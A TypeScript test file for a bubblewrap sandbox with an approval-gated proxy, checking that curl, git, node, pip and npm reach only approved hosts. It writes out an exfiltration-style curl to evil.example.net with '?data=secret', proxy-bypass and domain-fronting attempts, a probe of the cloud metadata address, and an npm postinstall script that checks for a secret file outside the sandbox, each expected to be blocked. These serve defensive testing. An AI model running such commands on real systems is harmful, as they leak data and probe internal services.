import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { RequestListener } from "node:http";
import { createServer } from "node:https";
import { join, normalize } from "node:path";
import { describe, expect, it } from "vitest";
import { boxArguments } from "../../../main/box/arguments/bubblewrap.ts";
import { findMachine, type Machine } from "../../../main/box/arguments/machine.ts";
import { configSchema } from "../../../main/config/config.ts";
import { BY, type NetworkUnderTest, openedNetwork, type RunUnderTest } from "../../support/confined-network.ts";
import { tempFolderForFile } from "../../support/temp-folder.ts";

/** Programs as they are installed, in the real bubblewrap, through the relay and the proxy to servers of the test's own. */

const WANTED = ["bwrap", "openssl"];
const missing = WANTED.find((name) => !isInstalled(name));
if (missing !== undefined) {
  if (process.env.CI === "true") throw new Error(`${missing} is not installed`);
  console.log(`confined programs' ways to hosts are not tested: ${missing} is not installed`);
}

function isInstalled(name: string): boolean {
  return ["/usr/bin", "/usr/local/bin", "/bin"].some((folder) => existsSync(join(folder, name)));
}

/** As above, for one test. */
function needs(name: string): { skip: boolean } {
  const isThere = isInstalled(name);
  if (!isThere && process.env.CI === "true") throw new Error(`${name} is not installed`);
  if (!isThere) console.log(`${name} is not installed: its way to hosts is not tested`);
  return { skip: !isThere };
}

const REGISTRY = "registry.example.org";
const files = tempFolderForFile();

/** A key and a certificate that vouches for itself, for the one name. */
const certificate = (() => {
  if (missing !== undefined) return { key: "", cert: "" };
  const [key, cert] = [join(files, "key.pem"), join(files, "cert.pem")];
  const subject = ["-subj", `/CN=${REGISTRY}`, "-addext", `subjectAltName=DNS:${REGISTRY}`];
  const kind = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"];
  execFileSync("openssl", ["req", "-x509", ...kind, ...subject, "-keyout", key, "-out", cert], { stdio: "ignore" });
  return { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") };
})();

interface Place {
  net: NetworkUnderTest;
  machine: Machine;
  project: string;
  port: number;
  /** What the server was asked for. */
  asked: string[];
}

/** A registry on loopback that serves these files, a project, and a gate. */
async function placed(served: RequestListener): Promise<Place> {
  const net = await openedNetwork();
  const asked: string[] = [];
  const server = createServer(certificate, (request, response) => {
    asked.push(`${request.method} ${request.url}`);
    served(request, response);
  });
  const port = await net.serve(server, REGISTRY);
  const { home, env, paths } = net.home;
  const project = join(home, "site");
  mkdirSync(project);
  writeFileSync(join(project, "ca.pem"), certificate.cert);
  const machine = findMachine({ env, home, config: configSchema.parse({}).box, state_dir: paths.state_dir });
  return { net, machine, project, port, asked };
}

const folderOf =
  (folder: string): RequestListener =>
  (request, response) => {
    const path = join(folder, normalize(new URL(request.url ?? "", "https://x").pathname));
    if (!existsSync(path)) return void response.writeHead(404).end();
    response.end(readFileSync(path));
  };

const TRUST =
  "export CURL_CA_BUNDLE=$PWD/ca.pem GIT_SSL_CAINFO=$PWD/ca.pem NODE_EXTRA_CA_CERTS=$PWD/ca.pem PIP_CERT=$PWD/ca.pem npm_config_cafile=$PWD/ca.pem;";

async function inBox({ machine, project, net }: Place, line: string, run: RunUnderTest = net.run(line)) {
  const declaration = { project, cwd: project, reads: [], writes: [], network: true };
  const words = boxArguments(declaration, machine, { run_later: [], secrets: [] });
  const script = `${run.way.start}\n${TRUST} ${line}`;
  const child = spawn("bwrap", [...words, ...run.way.arguments, "--", "bash", "-c", script], {
    env: { PATH: "/usr/bin:/bin" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let [stdout, stderr] = ["", ""];
  child.stdout.on("data", (chunk) => {
    stdout += chunk;
  });
  child.stderr.on("data", (chunk) => {
    stderr += chunk;
  });
  const [code] = await once(child, "close");
  return { code, stdout, stderr };
}

describe.skipIf(missing !== undefined)("a confined program", () => {
  it.skipIf(needs("curl").skip)("curl reaches a host over TLS once it is approved, and no other", async () => {
    const place = await placed((_request, response) => response.end("hello from the registry"));
    const { net, port } = place;
    const answered = net.answerNext("approved");
    const url = `https://${REGISTRY}:${port}/hello`;
    expect(await inBox(place, `curl -sS ${url}`)).toEqual({ code: 0, stdout: "hello from the registry", stderr: "" });
    expect((await answered).intent).toBe(`curl -sS ${url}`);
    const refused = net.answerNext("rejected");
    const denied = await inBox(place, `curl -sS https://evil.example.net:${port}/?data=secret`);
    await refused;
    expect(denied).toMatchObject({ code: 56, stderr: expect.stringContaining("403") });
    expect(place.asked).toEqual(["GET /hello"]);
  });

  it.skipIf(needs("curl").skip)("can't leave the proxy out, nor reach the machine by it", async () => {
    const place = await placed((_request, response) => response.end("hello"));
    const { net, port } = place;
    net.grant(REGISTRY);
    net.grant("127.0.0.1");
    const direct = await inBox(
      place,
      `curl -sS --noproxy '*' --connect-to ::127.0.0.1:${port} https://${REGISTRY}:${port}/`,
    );
    expect(direct.code).toBe(7);
    for (const host of ["127.0.0.1", "localhost", "[::1]", "169.254.169.254", "10.0.0.1"]) {
      const refused = await inBox(place, `curl -sS --noproxy '' https://${host}:8443/`);
      expect([host, refused.code, refused.stderr]).toEqual([host, 56, expect.stringContaining("403")]);
    }
    const fronted = await inBox(
      place,
      `curl -sS --connect-to evil.example.net:443:${REGISTRY}:${port} https://evil.example.net/`,
    );
    expect(fronted.stderr).toMatch(/alert|unrecognized name/i);
    expect(place.asked).toEqual([]);
  });

  it.skipIf(needs("git").skip)("git clones over https", async () => {
    const source = join(files, "source");
    const git = (...words: string[]) => execFileSync("git", words, { cwd: source, stdio: "ignore" });
    mkdirSync(source);
    git("init", "-q", "-b", "main");
    git("-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "--allow-empty", "-m", "first");
    git("update-server-info");
    const place = await placed(folderOf(source));
    place.net.grant(REGISTRY);
    const done = await inBox(
      place,
      `git clone -q https://${REGISTRY}:${place.port}/.git copy && git -C copy log --format=%s`,
    );
    expect(done).toEqual({ code: 0, stdout: "first\n", stderr: "" });
  });

  it("node's fetch reaches it", async () => {
    const place = await placed((_request, response) => response.end("fetched"));
    place.net.grant(REGISTRY);
    const fetching = `fetch("https://${REGISTRY}:${place.port}/").then((r) => r.text()).then(console.log)`;
    const done = await inBox(place, `/run/metnos-gate/node -e '${fetching}'`);
    expect(done.stdout).toBe("fetched\n");
  });

  it.skipIf(needs("pip3").skip)("pip downloads from it", async () => {
    const folder = join(files, "index");
    mkdirSync(join(folder, "simple/tiny"), { recursive: true });
    const wheel = "tiny-1.0-py3-none-any.whl";
    const making = `import zipfile
z = zipfile.ZipFile(${JSON.stringify(join(folder, wheel))}, "w")
z.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n")
z.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
z.writestr("tiny-1.0.dist-info/RECORD", "")`;
    execFileSync("python3", ["-c", making]);
    const page = `<a href="/${wheel}">${wheel}</a>`;
    const place = await placed((request, response) => {
      if (request.url === "/simple/tiny/") response.setHeader("content-type", "text/html").end(page);
      else folderOf(folder)(request, response);
    });
    const answered = place.net.answerNext("approved");
    const index = `https://${REGISTRY}:${place.port}/simple`;
    const done = await inBox(
      place,
      `/usr/bin/python3 -m pip download -q --disable-pip-version-check --no-deps -i ${index} tiny`,
    );
    await answered;
    expect([done.code, done.stderr]).toEqual([0, expect.any(String)]);
    expect(existsSync(join(place.project, wheel))).toBe(true);
  });

  it.skipIf(needs("npm").skip)("npm installs from it, and its install script runs confined", async () => {
    const made = join(files, "package");
    mkdirSync(made);
    const script =
      "node -e \"require('fs').writeFileSync(process.env.INIT_CWD + '/ran.txt', String(require('fs').existsSync(process.env.OUTSIDE)))\"";
    writeFileSync(
      join(made, "package.json"),
      JSON.stringify({ name: "tiny", version: "1.0.0", scripts: { postinstall: script } }),
    );
    execFileSync("tar", ["-czf", join(files, "tiny.tgz"), "-C", files, "package"]);
    const place = await placed((request, response) => {
      if (request.url === "/tiny.tgz") return void response.end(readFileSync(join(files, "tiny.tgz")));
      if (!/^\/tiny$/.test(request.url ?? "")) return void response.writeHead(404).end("{}");
      const dist = { tarball: `https://${REGISTRY}:${place.port}/tiny.tgz` };
      const versions = { "1.0.0": { name: "tiny", version: "1.0.0", hasInstallScript: true, dist } };
      response.end(JSON.stringify({ name: "tiny", "dist-tags": { latest: "1.0.0" }, versions }));
    });
    const { net, project, port } = place;
    const outside = join(net.home.home, "outside.txt");
    writeFileSync(outside, "secret");
    writeFileSync(join(project, "package.json"), JSON.stringify({ name: "site", version: "1.0.0" }));
    const cards: string[] = [];
    net.core.listeners.add(["approval.waiting"], ({ data }) => {
      cards.push(data.card.lines[1] ?? "");
      net.core.gate.answer({ token: data.token, decision: "approved" }, BY);
    });
    const install = `npm install --no-audit --no-fund --no-update-notifier --registry https://${REGISTRY}:${port}/ tiny`;
    const done = await inBox(place, `OUTSIDE=${outside} ${install}`, net.run("npm install tiny"));
    expect(done).toMatchObject({ code: 0, stdout: expect.stringContaining("added 1 package") });
    expect(cards).toEqual([`${REGISTRY}:${port}: npm install tiny  (in ~/site)`]);
    expect(readFileSync(join(project, "ran.txt"), "utf8")).toBe("false");
    rmSync(outside);
  });
});
